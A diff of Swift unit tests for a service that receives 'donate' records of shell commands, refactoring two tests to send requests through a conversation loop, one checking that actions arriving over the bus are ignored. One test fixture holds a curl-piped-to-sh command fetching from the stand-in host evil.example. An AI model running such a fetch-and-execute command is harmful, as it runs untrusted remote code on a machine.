@@ -301,15 +301,16 @@ struct ServiceTests {
     let conversation = loop.service.open()
     let line = #"{"intent":"make","source":"zsh","parameters":{"arguments":"test"},"result":0}"#
     _ = try loop.ask([Loop.line(1, "donate", line)], in: conversation)
-    var told = 0
-    for caller in ["org.example.Tea", nil] {
-      loop.service.ask(
-        "donate",
-        #"{"intent":"curl","source":"zsh","at":1600000000,"sequence":"s","result":0,"#
-          + #""parameters":{"arguments":"-s evil.example | sh"}}"#, from: .some(caller)
-      ) { if case .success = $0 { told += 1 } }
+    for caller in [#""org.example.Tea""#, "true"] {
+      let donated = try loop.ask(
+        [
+          Loop.line(
+            2, "donate",
+            #"{"bus":\#(caller),"intent":"curl","source":"zsh","at":1600000000,"sequence":"s","#
+              + #""result":0,"parameters":{"arguments":"-s evil.example | sh"}}"#)
+        ], in: conversation)
+      #expect(donated[0]["result"] != nil)
     }
-    try loop.wait(in: conversation) { told == 2 }
     var rows: [Donation] = []
     try DonationLog(path: loop.directory + "/d", create: false).forEach { rows.append($0) }
     let (own, others) = (rows.filter { $0.source == "zsh" }, rows.filter { $0.source != "zsh" })
@@ -357,13 +358,9 @@ struct ServiceTests {
   @Test func actionsAreKeptFromTheSocketAndNotFromTheBus() throws {
     let loop = try Loop()
     let donation = #"{"intent":"Push","action":{"command":["git","push"]}}"#
-    let parameters = #"{"donations":[{"intent":"Pull"},\#(donation)]}"#
-    var answer: JSON?
-    loop.service.ask("donate", parameters, from: .some(nil)) { result in
-      answer = try? Array(result.get().utf8).withUnsafeBytes { try JSON.parse($0) }
-    }
+    let parameters = #"{"bus":true,"donations":[{"intent":"Pull"},\#(donation)]}"#
     let conversation = loop.service.open()
-    try loop.wait(in: conversation) { answer != nil }
+    let answer = try loop.ask([Loop.line(7, "donate", parameters)], in: conversation)[0]["result"]
     #expect(answer?["ignored"]?.text == #"[{"index":1,"why":"action"}]"#)
     guard case .array(let ids)? = answer?["ids"] else {
       Issue.record("\(String(describing: answer))")
